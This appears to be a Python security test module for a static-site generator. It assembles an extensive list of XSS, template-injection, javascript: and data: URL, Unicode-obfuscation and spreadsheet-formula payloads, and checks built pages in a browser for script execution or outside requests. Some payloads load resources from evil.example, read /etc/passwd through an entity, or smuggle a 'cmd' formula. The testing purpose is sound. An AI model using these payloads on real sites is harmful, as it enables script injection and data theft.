"""Texts that would run as programs if anything took them for HTML, a template or an address.

The set is made from classes: what runs a script by itself, what breaks out of the context that a
page may put a text into, addresses that run, ways to hide all of these, the syntax of templates,
and tricks with Unicode. `archive` puts each into every place that a text can come from, and `Audit`
looks at the pages in a browser.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

from samples import put

if TYPE_CHECKING:
    from playwright.sync_api import Browser

RUN = "hit()"
"""What a payload calls; a page in which it is called has lost."""

ELEMENTS = (
    "<script>{run}</script>",
    "<script src=data:,{run}></script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.example/a.png>",
    "<img srcset='//evil.example/a.png 1x'>",
    "<image src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}>",
    "<svg><use href='data:image/svg+xml,<svg onload={run}>'>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><foreignObject><iframe onload={run}></foreignObject></svg>",
    "<svg><style><img src=x onerror={run}></style></svg>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
    "<math href=javascript:{run}>x</math>",
    "<math><annotation-xml encoding=text/html><script>{run}</script></annotation-xml></math>",
    "<math><mglyph><style><!--</style><img src onerror={run}>--></style></mglyph></math>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<object data=//evil.example/a></object>",
    "<embed src=javascript:{run}>",
    "<applet code=x></applet>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<frameset onload={run}><frame src=javascript:{run}></frameset>",
    "<details open ontoggle={run}>x</details>",
    "<video src=x onerror={run}></video>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<track default src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run}>x</button>",
    "<a autofocus tabindex=1 onfocus={run}>x</a>",
    "<marquee onstart={run}>x</marquee>",
    "<p style=animation-name:x onanimationstart={run}>x</p>",
    "<p style='background:url(//evil.example/b)'>x</p>",
    "<style>@import '//evil.example/a.css';</style>",
    "<style>*{background:url(javascript:{run})}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=import href=data:text/html,{run}>",
    "<link rel=prefetch href=//evil.example/p>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=javascript:{run}><input type=submit autofocus></form>",
    "<form><button formaction=javascript:{run}>x</button></form>",
    "<isindex action=javascript:{run} type=image>",
    "<keygen autofocus onfocus={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<xmp><img src=x onerror={run}></xmp>",
    "<plaintext><img src=x onerror={run}>",
    "<portal src=//evil.example/>",
    "<dialog open oncancel={run}>x</dialog>",
    "<a id=view href=x></a><form name=frame>",
    "<slot onslotchange={run}>x</slot>",
    "<custom-element onclick={run} is=x>x</custom-element>",
    "<div popover onbeforetoggle={run}>x</div>",
    "<?xml-stylesheet href='javascript:{run}'?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "<x xmlns='http://www.w3.org/1999/xhtml'><script>{run}</script></x>",
)
BREAKOUTS = (
    '"><', "'><", "><", '" ', "' ", "` ", "-->", "--!>", "<!--", "]]>", "<![CDATA[", "</title>",
    "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>", "</math>",
    "</bdi></h1>", "*/", "/*", "\\", "\\\"", '"}]}', "&quot;&gt;", "&#34;&#62;", "%22%3E", "\n\n",
)  # fmt: skip
HANDLERS = (
    "<svg/onload={run}>",
    "<img src=x onerror={run}>",
    "<script>{run}</script>",
    'onmouseover="{run}" style="position:fixed;inset:0" autofocus onfocus="{run}" x="',
)
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "\x01javascript:{run}", " javascript:{run}", "javascript\x00:{run}", "javascript&colon;{run}",
    "&#106;avascript:{run}", "&#x6A;avascript:{run}", "javascript://%0a{run}",
    "javascript:\u2028{run}", "\u200bjavascript:{run}", "vbscript:{run}", "data:text/html,{html}",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==", "blob:{run}", "view-source:{run}",
    "feed:javascript:{run}", "jar:javascript:{run}", "//evil.example/", "\\\\evil.example\\",
    "https:javascript:{run}", "http://a.example/\"onmouseover=\"{run}", "file:///etc/passwd",
    "http://javascript:{run}@a.example/", "https://a.example/</script><script>{run}</script>",
)  # fmt: skip
TEMPLATES = (
    "{{ 7*7 }}", "{{ view.__class__.__mro__ }}", "{% raw %}", "{% include 'x' %}",
    "{{ ''.__class__.__base__.__subclasses__() }}", "{{constructor.constructor('{run}')()}}",
    "${{run}}", "`${{run}}`", "<%= {run} %>", "#{{run}}", "*{{run}}", "[[${{run}}]]",
    "{{{raw}}}", "{# x #}", "%(site)s %(num)s %s %d", "{0.__class__}", "$(hit)", "@{{run}}",
    "<div ng-app ng-init={run}>", "<div v-html=\"'{run}'\">", "<x :onclick={run}>", "!{{run}}",
    "{{frame|attr('metadata')}}", "{{ '%c' % 60 }}script>",
)  # fmt: skip
DISGUISES = (
    "<scr\x00ipt>{run}</scr\x00ipt>", "<\x00script>{run}</script>", "<script\x0b>{run}</script>",
    "<script\u00a0>{run}</script>", "＜script＞{run}＜/script＞", "‹script›{run}‹/script›",
    "\u003cscript\u003e{run}", "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}", "%3Cscript%3E{run}%3C/script%3E", "%253Cscript%253E{run}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script&amp;gt;{run}", "&#60;script&#62;{run}",
    "&#x3c;script&#x3e;{run}", "&ltscript&gt{run}", "&LT;script&GT;{run}", "+ADw-script+AD4-{run}",
    "<script>{run}//<nul>", "<<script>{run}//<</script>", "<sc<script>ript>{run}</sc</script>ript>",
    "<SCRIPT/x SRC=data:,{run}></SCRIPT>", "<img/src/onerror={run}>", "<img\nsrc=x\nonerror={run}>",
    "<img src=`x`onerror={run}>", "<img \"\"\"><script>{run}</script>\">", "<a href=x\x01onclick={run}>",
    "\u202e>tpircs/<{run}>tpircs<", "\u2066<b>\u2069", "\ufeff<script>{run}</script>", "<script>{run}",
    "<ſcript>{run}</ſcript>", "<ımg src=x onerror={run}>", "\u212a<script>{run}</script>",
    "<script>\u2028{run}\u2029</script>", "\ud83d<script>{run}</script>", "<b>\ufffe</b>",
    "<a href=\"jav&#x0A;ascript:{run}\">x</a>", "<a href=\"java&NewLine;script:{run}\">x</a>",
    "`-{run}-`", "';{run};//", "\";{run};//", "\\';{run};//", "</script><script>{run}//",
    "<!--<script>{run}</script>", "<!--<script>", "{\"@type\":\"x\"}</script><script>{run}</script>",
    "=HYPERLINK(\"javascript:{run}\")", "=cmd|' /C calc'!A0", "+{run}", "@SUM({run})", "-{run}",
    "[x](javascript:{run})", "![x](javascript:{run})", "<javascript:{run}>", "[x]: data:,{run}\n\n[x]",
    "`<img src=x onerror={run}>`", "\t<script>{run}</script>", "#<img src=x onerror={run}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Give all payloads, each once."""
    classes = [*ELEMENTS, *TEMPLATES, *DISGUISES, *SCHEMES]
    classes += [f"<a href='{scheme}'>x</a>" for scheme in SCHEMES]
    classes += [before + handler for before in BREAKOUTS for handler in HANDLERS]
    filled = (
        text.replace("{run}", RUN).replace("{html}", f"<script>{RUN}</script>") for text in classes
    )
    return list(dict.fromkeys(filled))


def archive(folder: Path, texts: Iterable[str]) -> None:
    """Make an archive with each text in every place that a text can come from."""
    rows = []
    files: dict[str, str | bytes] = {
        "site.yaml": "title: Hostile\nurl: https://archive.example/\nnames: 1\nsearch: script\n"
    }
    for number, text in enumerate(texts):
        whole = text.encode("utf-8", "replace").decode()
        mark = f"Marked{number}"
        # A row: title, byline, tag, date, address, source and body, each with the text.
        rows.append(
            json.dumps(
                {
                    "title": f"{text} {mark}",
                    "text": f"{text}\n\nThe body of {mark} says {text} and goes on.\n\n{text}",
                    "authors": [text, "Ann Ode"],
                    "section": [f"{text} {number % 7}", "News"],
                    "date": text if number % 2 else "2021-07-19",
                    "source": f"{text} {number % 7}",
                    "url": text,
                    "language": text,
                }
            )
        )
        name = "".join(c for c in whole if c not in "/\0")[:60].strip(".")
        files[f"articles/pages/{number} {name}.html"] = _page(text, mark)
        files[f"articles/texts/{number} {name}.txt"] = _text(whole, mark)
        files[f"articles/notes/{number}.md"] = f"# {whole} {mark}\n\n{whole}\n\nA note of {mark}.\n"
    files["articles/rows.jsonl"] = "\n".join(rows)
    put(folder, files)


def _page(text: str, mark: str) -> str:
    """Put a text into the head's metadata, its records, captions and links of a page."""
    escaped = html.escape(text, quote=True)
    record = json.dumps(
        {
            "@type": "NewsArticle",
            "headline": f"{text} page {mark}",
            "author": {"name": text},
            "publisher": {"name": text},
            "articleSection": text,
            "datePublished": text,
            "url": f"https://a.example/{text}",
            "inLanguage": text,
        }
    ).replace("<", "\\u003c")
    page = (
        f'<html lang="{escaped}"><head><title>{escaped} page {mark}</title>'
        f'<meta property="og:title" content="{escaped} page {mark}">'
        f'<meta property="og:url" content="https://a.example/{quote(text, errors="replace")}">'
        f'<meta name="author" content="{escaped}"><meta name="date" content="{escaped}">'
        f'<meta property="og:site_name" content="{escaped}">'
        f'<script type="application/ld+json">{record}</script></head>'
        f"<body><article><h1>{escaped} page {mark}</h1><p>The page of {mark} says {escaped} to all."
        f"</p><figure><figcaption>{escaped} in a picture of {mark}</figcaption></figure>"
        f"<p>It ends with {escaped} and a full stop, and nothing else.</p></article></body></html>"
    )
    return page.encode("utf-8", "replace").decode()


def _text(text: str, mark: str) -> str:
    return (
        f"{text} text {mark}\n\nBy {text}\n\n{text}\n\nThe town of {text} said on Monday that it "
        f"would not hold with {mark}, and with {text} even less, for it was not so.\n\nImage: {text} "
        f"(Reuters)\n\n* {text}\n\nhttps://a.example/{text}\n"
    )


WATCH = """
window.hits = []; window.broken = [];
window.hit = () => window.hits.push('hit');
for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => window.hits.push(name);
document.addEventListener('securitypolicyviolation',
  event => window.broken.push(event.violatedDirective + ' ' + event.blockedURI));
"""
LOOK = """allowed => {
  const found = [...window.hits, ...window.broken];
  if (document.contentType !== 'text/html') return found;  // the rest is the browser's own viewer
  for (const node of document.querySelectorAll('*')) {
    const tag = node.localName, names = node.getAttributeNames();
    if (!allowed.tags.includes(tag)) found.push('element ' + tag);
    for (const name of names) {
      if (!allowed.attributes.includes(name) && !name.startsWith('data-'))
        found.push('attribute ' + tag + ' ' + name);
      const value = node.getAttribute(name);
      if (['href', 'src', 'action', 'formaction', 'data', 'xlink:href'].includes(name)) {
        const url = URL.canParse(value, document.baseURI) && new URL(value, document.baseURI);
        if (!url || !['http:', 'https:'].includes(url.protocol))
          found.push(tag + ' ' + name + '=' + value);
      }
    }
    if (tag === 'script' && node.type !== 'application/ld+json' && !node.src.startsWith(location.origin))
      found.push('script ' + node.outerHTML.slice(0, 80));
    if (tag === 'script' && node.type === 'application/ld+json') JSON.parse(node.textContent);
  }
  return found;
}"""
NODES = """() => {
  const tags = new Set(), attributes = new Set();
  for (const node of document.querySelectorAll('*')) {
    tags.add(node.localName);
    for (const name of node.getAttributeNames()) attributes.add(name);
  }
  return {tags: [...tags], attributes: [...attributes]};
}"""


class Audit:
    """Looks at pages of a site in a browser."""

    def __init__(self, browser: Browser, address: str) -> None:
        self._address = address
        self.troubles: list[str] = []
        self.page = browser.new_page()
        self.page.set_default_timeout(200_000)  # a busy machine is no trouble
        self.page.add_init_script(WATCH)
        self.page.on("dialog", self._dialog)
        self.page.on("request", self._request)
        self.page.on("pageerror", lambda error: self._trouble(f"error {error}"))
        self.page.on("console", self._console)

    def nodes(self, urls: Iterable[str]) -> dict[str, list[str]]:
        """Give the elements and attributes that stand in pages."""
        tags: set[str] = set()
        attributes: set[str] = set()
        for url in urls:
            self.page.goto(self._address + url)
            found: dict[str, list[str]] = self.page.evaluate(NODES)
            tags |= set(found["tags"])
            attributes |= set(found["attributes"])
        return {"tags": sorted(tags), "attributes": sorted(attributes)}

    def look(self, url: str, allowed: dict[str, Any]) -> None:
        """Open a page and note what should not be there."""
        self.page.goto(self._address + url)
        self.look_again(allowed)

    def look_again(self, allowed: dict[str, Any]) -> None:
        """Note what should not be there in the page that is open."""
        for trouble in self.page.evaluate(LOOK, allowed):
            self._trouble(trouble)

    def _dialog(self, dialog: Any) -> None:
        self._trouble("dialog")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        if not request.url.startswith(self._address):
            self._trouble(f"request {request.url}")

    def _console(self, said: Any) -> None:
        if said.type == "error" and not said.location["url"].endswith("/favicon.ico"):
            self._trouble(f"console {said.text}")

    def _trouble(self, what: str) -> None:
        self.troubles.append(f"{self.page.url.removeprefix(self._address)}: {what}")


def pages_of(site: Path) -> Iterator[str]:
    """Give the addresses of a built site's pages, feeds and sitemaps, but of those that lead on."""
    for path in sorted(site.rglob("*")):
        wanted = path.suffix in (".html", ".xml") and "pagefind" not in path.parts
        if wanted and not _leads_on(path.read_text(encoding="utf-8")):
            yield "/" + quote(path.relative_to(site).as_posix())


def _leads_on(content: str) -> bool:
    """Tell whether a page has the theme's own line, at its place, that leads to another page."""
    lines = content.splitlines()[:6]
    return any(line.startswith('<meta http-equiv="refresh" content="0; url=../') for line in lines)


CLEAN: dict[str, str | bytes] = {
    "site.yaml": "title: Clean\nurl: https://archive.example/\nnames: 1\nsearch: script\n",
    "articles/a.txt": (
        "A title\n\nBy Ann Ode\n\n19 July 2021\n\nThe town of Eastport said on Monday that it would "
        "not hold with it*, and Gen. Peter Marlow neither.\n\nImage: A picture (Reuters)\n\n* A note.\n"
    ),
    "articles/a.yaml": "why: So.\nurl: https://a.example/a\nsource: The Courier\nsection: [News]\n",
    "articles/b.md": "---\ntitle: B\naliases: [old/b]\nrights: http://a.example/\n---\nB *b* b.\n\n- c\n",
    "articles/c.txt": "",
    "articles/d.txt": b"\xe4 b\n",
    **{
        f"articles/e{i}.md": f"---\ntitle: E{i}\ndate: 20{i:02}-05-06\nsource: The Courier\n"
        f"authors: [Ann Ode]\nsection: [News]\n---\nThe text of {i} named Peter Marlow.\n\n## Head\n"
        for i in range(12)
    },
}
"""An archive of which the elements and attributes of all kinds of pages can be learnt."""
